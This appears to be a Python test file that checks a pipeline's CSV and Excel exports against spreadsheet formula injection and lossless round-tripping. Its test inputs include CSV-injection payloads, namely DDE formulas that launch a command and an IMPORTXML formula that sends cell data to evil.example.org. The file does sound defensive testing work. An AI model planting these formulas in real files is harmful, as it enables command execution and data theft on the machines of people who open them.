"What leaves for a spreadsheet: nothing in it runs (OWASP CSV injection, CWE-1236), and it reads back as it was."
from __future__ import annotations

import csv
import datetime as dt
import re
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.core.errors import InputError
from pipeline.data.export import PLAIN_NUMBER, guard, read_export, unguard, write_export

RISKY = "=+-@\t\r\n＝＋－＠"
HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", '=HYPERLINK("http://evil.example.org","x")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example.org?v=",A1),"//a")', "a;=1+1", "a,=1+1", "a\t=1+1", "a|=1+1", "a\n=1+1", 'x","=1+1', "x\";=1+1", '";=1+1', "'=1", "''=1",
    "-2+3+cmd|' /C calc'!A0", "=", "-", "@", "+", "'", "''", "", " =1", "a;'=1", ';"=1"', "--1", "+-1", "-1;-1", "%0A=1", "null", "'null", "1e5", "NaN", "true", "2024-01-01", "007", "DDE(\"cmd\";\"/C calc\")",
]
texts = st.one_of(st.sampled_from(HOSTILE), st.text(st.characters(codec="utf-8"), max_size=12), st.text(st.sampled_from("=+-@'\";,|\t\r\n1a "), max_size=8))
numbers = st.one_of(st.none(), st.floats(), st.sampled_from([0.1 + 0.2, 1e-300, 5e-324, 1.7976931348623157e308, -0.0]))
moments = st.one_of(st.none(), st.datetimes(dt.datetime(1700, 1, 1), dt.datetime(2200, 1, 1)))
days = st.one_of(st.none(), st.dates(dt.date(1700, 1, 1), dt.date(2200, 1, 1)))
wholes = st.one_of(st.none(), st.integers(-(2**63), 2**63 - 1))


@st.composite
def frames(draw: Any) -> pl.DataFrame:
    n = draw(st.integers(1, 5))
    width = draw(st.integers(1, 6))
    names = draw(st.lists(texts, min_size=width, max_size=width, unique=True))
    kinds = [(st.one_of(st.none(), texts), pl.String), (numbers, pl.Float64), (wholes, pl.Int64), (st.one_of(st.none(), st.booleans()), pl.Boolean), (days, pl.Date), (moments, pl.Datetime("us"))]
    chosen = draw(st.permutations(kinds))[:width]
    return pl.DataFrame([pl.Series(name, draw(st.lists(kind, min_size=n, max_size=n)), dtype=dtype) for name, (kind, dtype) in zip(names, chosen)])


def cells_of(text: str, separator: str) -> list[str]:
    return [cell for row in csv.reader(text.splitlines(keepends=True), delimiter=separator) for cell in row]


@given(frames())
@settings(max_examples=200, deadline=None, derandomize=True)
def test_a_csv_runs_nothing_and_reads_back_equal(frame: pl.DataFrame) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        write_export(frame, path)
        assert read_export(path, frame.schema).equals(frame, null_equal=True)
        with path.open(newline="", encoding="utf-8") as file:
            for row in csv.reader(file):
                for cell in row:
                    assert not cell.startswith(tuple(RISKY)) or re.fullmatch(r"-?(inf|\d.*)", cell), cell


@given(frames())
@settings(max_examples=150, deadline=None, derandomize=True)
def test_a_workbook_runs_nothing_and_reads_back_equal(frame: pl.DataFrame) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.xlsx"
        write_export(frame, path)
        back = read_export(path, frame.schema)
        assert back.equals(frame, null_equal=True), (back, frame)
        with zipfile.ZipFile(path) as book:
            sheet = book.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet and b"<f " not in sheet and b"<hyperlink" not in sheet


@given(st.lists(texts, min_size=1, max_size=8))
@settings(max_examples=600, deadline=None, derandomize=True)
def test_a_guard_comes_off_exactly_as_it_went_on(given_: list[str]) -> None:
    values = pl.Series(given_, dtype=pl.String)
    guarded = guard(values)
    assert unguard(guarded).equals(values)
    assert guarded.n_unique() == values.n_unique()
    for text in guarded:
        assert re.fullmatch(PLAIN_NUMBER, text) or not re.search(r'(^|[;,|\t\r\n]"*)[=+\-@＝＋－＠]', text), repr(text)


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_separator_makes_a_formula(separator: str, tmp_path: Path) -> None:
    "A spreadsheet in another country cuts the same file at another sign."
    frame = pl.DataFrame({"n": range(len(HOSTILE)), "who": HOSTILE})
    write_export(frame, tmp_path / "t.csv")
    for cell in cells_of((tmp_path / "t.csv").read_text(), separator):
        assert not cell.lstrip('"').startswith(("=", "+", "@", "＝", "＋", "＠")) and not re.match(r'"*-(?!\d+$)', cell), cell


def test_an_edited_cell_stays_a_text(tmp_path: Path) -> None:
    "Excel computes a text that begins with = once somebody presses F2 and Enter, unless its format has the quote prefix."
    write_export(pl.DataFrame({"who": ["=1+1", "fine"]}), tmp_path / "t.xlsx")
    with zipfile.ZipFile(tmp_path / "t.xlsx") as book:
        sheet, styles = book.read("xl/worksheets/sheet1.xml").decode(), book.read("xl/styles.xml").decode()
    prefixed = [i for i, xf in enumerate(re.findall(r"<xf [^>]*>", styles.split("<cellXfs")[1].split("</cellXfs>")[0])) if 'quotePrefix="1"' in xf]
    style = re.search(r'<c r="A2"[^>]*?(?: s="(\d+)")', sheet)
    assert style is not None and int(style[1]) in prefixed and not re.search(r'<c r="A3" s=', sheet)


def test_what_a_format_cannot_hold_is_refused_and_leaves_nothing(tmp_path: Path) -> None:
    for frame, name, word in (
        (pl.DataFrame({"x": [[1]]}), "t.csv", "column 'x' holds List"), (pl.DataFrame({"x": [b"1"]}), "t.xlsx", "Binary"), (pl.DataFrame({"x": ["y" * 40_000]}), "t.xlsx", "row 1, column 'x'"),
        (pl.DataFrame({"x": [1]}), "t.pdf", ".csv, .xlsx or .parquet"), (pl.select(pl.repeat(1, 1_048_576).alias("x")), "t.xlsx", "1,048,576 rows"),
    ):
        with pytest.raises(InputError) as refusal:
            write_export(frame, tmp_path / name)
        assert word in str(refusal.value) and "\n" not in str(refusal.value)
    assert not list(tmp_path.iterdir())


def test_predictions_leave_through_it(tmp_path: Path) -> None:
    from pipeline.deploy.batch import write_rows

    answers = pl.DataFrame({"prediction": ["=cmd|' /C calc'!A0", "no", "-1"], "p_=cmd": [0.25, 0.5, 0.1 + 0.2]})
    for name in ("t.csv", "t.xlsx", "t.parquet"):
        write_rows(answers, tmp_path / name)
        assert read_export(tmp_path / name).equals(answers)
    assert (tmp_path / "t.csv").read_text().splitlines()[:2] == ["prediction,p_=cmd", "'=cmd|' /C calc'!A0,0.25"]
